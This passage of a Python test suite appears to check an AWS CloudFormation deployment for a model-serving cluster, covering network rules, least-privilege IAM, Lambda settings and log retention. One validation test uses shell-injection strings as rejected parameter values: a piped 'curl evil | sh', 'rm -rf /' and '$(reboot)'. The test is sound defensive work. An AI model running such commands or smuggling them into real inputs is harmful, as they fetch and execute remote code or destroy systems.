    assert fn["Configuration"]["Environment"]["Variables"] == {"MARK_DATA_DIR": "/tmp/mark"}
    assert spill.SOURCE_ENV == "MARK_MODEL_SOURCE"
    assert fn["Configuration"]["MemorySize"] == 2048


# -- network ------------------------------------------------------------------------------


def test_agents_accept_traffic_only_from_the_controller_group(own_vpc: Stack) -> None:
    ec2 = own_vpc.client("ec2")
    agent_sg, controller_sg = (
        own_vpc.outputs["AgentSecurityGroupId"],
        own_vpc.outputs["ControllerSecurityGroupId"],
    )
    groups = {
        g["GroupId"]: g
        for g in ec2.describe_security_groups(GroupIds=[agent_sg, controller_sg])["SecurityGroups"]
    }
    (rule,) = groups[agent_sg]["IpPermissions"]
    assert (rule["IpProtocol"], rule["FromPort"], rule["ToPort"]) == ("tcp", 8500, 8500)
    assert [p["GroupId"] for p in rule["UserIdGroupPairs"]] == [controller_sg]
    assert not rule.get("IpRanges") and not rule.get("Ipv6Ranges")
    (api,) = groups[controller_sg]["IpPermissions"]
    assert api["FromPort"] == 8080
    assert [p["GroupId"] for p in api["UserIdGroupPairs"]] == [
        own_vpc.physical["LoadBalancerSecurityGroup"]
    ]
    assert not api.get("IpRanges")


def test_a_sqlite_frontend_is_a_group_of_one_behind_the_load_balancer(own_vpc: Stack) -> None:
    group = _group(own_vpc)
    assert (group["MinSize"], group["MaxSize"], group["DesiredCapacity"]) == (1, 1, 1)
    assert (
        group["LaunchTemplate"]["LaunchTemplateId"] == own_vpc.physical["ControllerLaunchTemplate"]
    )
    assert group["VPCZoneIdentifier"] == own_vpc.physical["SubnetA"]  # the volume's AZ
    tags = {t["Key"]: t["Value"] for t in group["Tags"]}
    assert tags["mark:controller"] == "prod"
    assert TAG_CLUSTER not in tags  # else the fleet would count (and retire) its controller
    elb = own_vpc.client("elbv2")
    (tg,) = elb.describe_target_groups(TargetGroupArns=[own_vpc.physical["ApiTargetGroup"]])[
        "TargetGroups"
    ]
    assert (tg["Port"], tg["HealthCheckPath"]) == (8080, "/v2/health/ready")
    assert group["TargetGroupARNs"] == [tg["TargetGroupArn"]]
    listeners = elb.describe_listeners(LoadBalancerArn=own_vpc.physical["LoadBalancer"])
    assert [(x["Port"], x["Protocol"]) for x in listeners["Listeners"]] == [(80, "HTTP")]
    (action,) = listeners["Listeners"][0]["DefaultActions"]  # no certificate: HTTP serves
    assert (action["Type"], action["TargetGroupArn"]) == ("forward", tg["TargetGroupArn"])


def test_https_listener_with_a_certificate(existing_vpc: Stack) -> None:
    elb = existing_vpc.client("elbv2")
    listeners = elb.describe_listeners(LoadBalancerArn=existing_vpc.physical["LoadBalancer"])
    assert sorted((x["Port"], x["Protocol"]) for x in listeners["Listeners"]) == [
        (80, "HTTP"),
        (443, "HTTPS"),
    ]
    by_port = {x["Port"]: x for x in listeners["Listeners"]}
    (redirect,) = by_port[80]["DefaultActions"]  # with a certificate, HTTP only redirects
    assert redirect["Type"] == "redirect"
    config = redirect["RedirectConfig"]
    assert (config["Protocol"], config["Port"], config["StatusCode"]) == (
        "HTTPS",
        "443",
        "HTTP_301",
    )
    (forward,) = by_port[443]["DefaultActions"]
    assert forward["Type"] == "forward"


def test_the_endpoint_admits_only_the_allowed_cidr(own_vpc: Stack, existing_vpc: Stack) -> None:
    for stack, ports in ((own_vpc, [80]), (existing_vpc, [80, 443])):
        sg = stack.physical["LoadBalancerSecurityGroup"]
        (group,) = stack.client("ec2").describe_security_groups(GroupIds=[sg])["SecurityGroups"]
        rules = group["IpPermissions"]
        assert sorted(r["FromPort"] for r in rules) == ports
        for rule in rules:
            assert [r["CidrIp"] for r in rule["IpRanges"]] == [stack.params["AllowedCidr"]]


# -- interruption notices -------------------------------------------------------------------


def test_rules_send_both_ec2_notices_to_the_queue(own_vpc: Stack) -> None:
    sqs, events = own_vpc.client("sqs"), own_vpc.client("events")
    url = own_vpc.outputs["InterruptionQueueUrl"]
    arn = sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["QueueArn"])["Attributes"][
        "QueueArn"
    ]
    kinds: set[str] = set()
    for logical in ("InterruptionWarningRule", "RebalanceRecommendationRule"):
        rule = events.describe_rule(Name=own_vpc.physical[logical])
        pattern = json.loads(rule["EventPattern"])
        assert pattern["source"] == EVENT_PATTERN["source"]
        kinds.update(pattern["detail-type"])
        targets = events.list_targets_by_rule(Rule=rule["Name"])["Targets"]
        assert [t["Arn"] for t in targets] == [arn]
    assert kinds == set(EVENT_PATTERN["detail-type"])  # what SqsInterruptionSource reads


# -- IAM ------------------------------------------------------------------------------------


def test_no_role_may_do_everything(
    own_vpc: Stack, existing_vpc: Stack, own_database: Stack
) -> None:
    for stack in (own_vpc, existing_vpc, own_database):
        for role in ("ControllerRole", "WorkerRole", "SpillFunctionRole"):
            for st in _statements(stack, role):
                actions = _as_list(st["Action"])
                assert all(a != "*" and not a.endswith(":*") for a in actions), (role, st)
                # No Resource: the agent token's ARN, which moto cannot make (MOTO_SKIPS).
                if _as_list(st.get("Resource")) == ["*"]:  # only what IAM cannot scope
                    if actions == ["cloudwatch:PutMetricData"]:
                        assert st["Condition"] == {"StringEquals": {"cloudwatch:namespace": "mark"}}
                    else:
                        assert all(":Describe" in a for a in actions), (role, st)


def test_controller_may_only_launch_and_end_instances_of_its_cluster(own_vpc: Stack) -> None:
    statements = {s["Sid"]: s for s in _statements(own_vpc, "ControllerRole")}
    launch = statements["LaunchOwnedWorkers"]
    assert launch["Condition"]["StringEquals"] == {f"aws:RequestTag/{TAG_CLUSTER}": "prod"}
    template_arn = launch["Condition"]["ArnLike"]["ec2:LaunchTemplate"]
    assert template_arn.endswith(f"launch-template/{own_vpc.outputs['WorkerLaunchTemplateId']}")
    manage = statements["ManageOwnedWorkers"]
    assert sorted(manage["Action"]) == [
        "ec2:StartInstances",
        "ec2:StopInstances",
        "ec2:TerminateInstances",
    ]
    assert manage["Condition"]["StringEquals"] == {f"aws:ResourceTag/{TAG_CLUSTER}": "prod"}
    assert statements["TagAtLaunchOnly"]["Condition"]["StringEquals"] == {
        "ec2:CreateAction": "RunInstances"
    }
    worker_role = own_vpc.client("iam").get_role(RoleName=own_vpc.physical["WorkerRole"])
    assert statements["PassWorkerRole"]["Resource"] == worker_role["Role"]["Arn"]
    assert "AttachTheStateVolume" in statements and "ReadDatabaseUrl" not in statements
    # The readiness signal (CreationPolicy, rolling update): to this stack alone.
    cf = own_vpc.client("cloudformation")
    stack_id = cf.describe_stacks(StackName=own_vpc.name)["Stacks"][0]["StackId"]
    signal = statements["SignalReady"]
    assert (signal["Action"], signal["Resource"]) == ("cloudformation:SignalResource", stack_id)
    for role in ("ControllerRole", "WorkerRole"):  # both ends of the agent token, nothing else
        reads = [s for s in _statements(own_vpc, role) if "secretsmanager" in str(s["Action"])]
        assert [(s["Sid"], s["Action"]) for s in reads] == [
            ("ReadAgentToken", "secretsmanager:GetSecretValue")
        ]


def test_postgres_stack_reads_the_secret_instead_of_attaching_a_volume(
    existing_vpc: Stack,
) -> None:
    statements = {s["Sid"]: s for s in _statements(existing_vpc, "ControllerRole")}
    assert statements["ReadDatabaseUrl"]["Resource"] == existing_vpc.params["DatabaseSecretArn"]
    assert "AttachTheStateVolume" not in statements
    worker = {s["Sid"]: s for s in _statements(existing_vpc, "WorkerRole")}
    bucket = existing_vpc.params["ArtifactBucket"]
    assert _as_list(worker["ReadArtifacts"]["Resource"]) == [
        f"arn:aws:s3:::{bucket}/mark/agent-bundle.tar.gz",
        f"arn:aws:s3:::{bucket}/models/resnet.pt",
    ]


# -- the spill function and logs -----------------------------------------------------------


def test_spill_function_is_the_pushed_image_with_its_own_role(
    own_vpc: Stack, existing_vpc: Stack
) -> None:
    for stack in (own_vpc, existing_vpc):
        fn = stack.client("lambda").get_function(FunctionName=stack.outputs["SpillFunctionName"])
        assert fn["Code"]["RepositoryType"] == "ECR"
        assert fn["Code"]["ImageUri"] == stack.params["SpillImageUri"]
        config = fn["Configuration"]
        assert config["MemorySize"] == 2048 and config["Timeout"] == 60
        role = stack.client("iam").get_role(RoleName=stack.physical["SpillFunctionRole"])
        assert config["Role"] == role["Role"]["Arn"]
    # moto's CloudFormation drops PackageType and Architectures (it reports a Zip
    # function), so those are checked in the template; no Runtime or Handler, which
    # Lambda refuses for an image (the image's CMD names the handler).
    props = tpl.load((ROOT / "infra" / "mark.yaml").read_text())["Resources"]["SpillFunction"]
    assert props["Properties"]["PackageType"] == "Image"
    assert props["Properties"]["Architectures"] == ["x86_64"]
    assert not {"Runtime", "Handler", "Layers"} & set(props["Properties"])
    assert existing_vpc.outputs["SpillFunctionName"].endswith("-spill")


def test_spill_function_is_told_its_model_and_may_read_exactly_that_object(
    own_vpc: Stack, existing_vpc: Stack
) -> None:
    """The aws world sends no model source; the handler reads it from the variable the
    stack sets (the same name), an s3:// URL of ModelKey or else the ModelSource factory."""
    env = {}
    for stack in (own_vpc, existing_vpc):
        fn = stack.client("lambda").get_function(FunctionName=stack.outputs["SpillFunctionName"])
        env[stack.name] = fn["Configuration"]["Environment"]["Variables"]
    bucket = existing_vpc.params["ArtifactBucket"]
    assert env[existing_vpc.name] == {
        spill.SOURCE_ENV: f"s3://{bucket}/models/resnet.pt",
        "MARK_DATA_DIR": "/tmp/mark",
    }
    assert env[own_vpc.name][spill.SOURCE_ENV] == "mark.demo:digits_model"
    model_reads = [
        s for s in _statements(existing_vpc, "SpillFunctionRole") if "s3:GetObject" in str(s)
    ]
    assert [(s["Action"], s["Resource"]) for s in model_reads] == [
        ("s3:GetObject", f"arn:aws:s3:::{bucket}/models/resnet.pt")
    ]
    own = _statements(own_vpc, "SpillFunctionRole")  # no model file: no S3 at all
    assert [s["Sid"] for s in own] == ["WriteLogs"]


def test_log_groups_have_retention(own_vpc: Stack) -> None:
    logs = own_vpc.client("logs")
    names = {
        own_vpc.physical[k]: k for k in ("ControllerLogGroup", "WorkerLogGroup", "SpillLogGroup")
    }
    found = {
        g["logGroupName"]: g.get("retentionInDays")
        for prefix in ("/mark/", "/aws/lambda/")
        for g in logs.describe_log_groups(logGroupNamePrefix=prefix)["logGroups"]
        if g["logGroupName"] in names
    }
    assert found == dict.fromkeys(names, 14)
    assert f"/aws/lambda/{own_vpc.outputs['SpillFunctionName']}" in found


# -- the README documents the template ------------------------------------------------------


def _documented(section: str) -> set[str]:
    """Names in the first column of the table under ``### {section}`` in infra/README.md."""
    text = (ROOT / "infra" / "README.md").read_text()
    block = text.split(f"### {section}\n", 1)[1].split("\n#", 1)[0]
    return set(re.findall(r"^\| `([A-Za-z0-9]+)` \|", block, re.M))


def test_readme_documents_exactly_the_parameters_and_outputs() -> None:
    template = tpl.load((ROOT / "infra" / "mark.yaml").read_text())
    assert _documented("Parameters") == set(template["Parameters"])
    assert _documented("Outputs") == set(template["Outputs"])


def test_parameters_that_reach_a_shell_accept_only_safe_values() -> None:
    """ModelSource, ModelKey and ModelNeuronKey are pasted into the workers' bootstrap."""
    params = tpl.load((ROOT / "infra" / "mark.yaml").read_text())["Parameters"]
    for name, good, bad in [
        ("ModelSource", "mark.demo:digits_model", "x:y'; curl evil | sh; '"),
        ("ModelKey", "models/resnet-50.pt", "m.pt'; rm -rf / #"),
        ("ModelNeuronKey", "models/resnet.neuron.pt", "$(reboot)"),
    ]:
        pattern = params[name]["AllowedPattern"]
        assert re.fullmatch(pattern, good), name
        assert not re.fullmatch(pattern, bad), name


def test_model_repository_prefix_is_a_key_prefix_ending_in_a_slash() -> None:
    pattern = tpl.parameters(tpl.load((ROOT / "infra" / "mark.yaml").read_text()))[
        "ModelRepositoryPrefix"
    ].allowed_pattern
    assert pattern
    for good in ("", "models/", "prod/ml-models/v2/"):
        assert re.fullmatch(pattern, good), good
    for bad in ("models", "/models/", "models//", "models/$(reboot)/", "my models/", "a'/"):
        assert not re.fullmatch(pattern, bad), bad


def test_every_parameter_is_in_one_console_group() -> None:
    template = tpl.load((ROOT / "infra" / "mark.yaml").read_text())
    groups = template["Metadata"]["AWS::CloudFormation::Interface"]["ParameterGroups"]
    grouped = [p for g in groups for p in g["Parameters"]]
    assert sorted(grouped) == sorted(template["Parameters"])  # each once, none left out
    (model,) = [g["Parameters"] for g in groups if g["Label"]["default"] == "Cluster and model"]
    assert "ModelRepositoryPrefix" in model
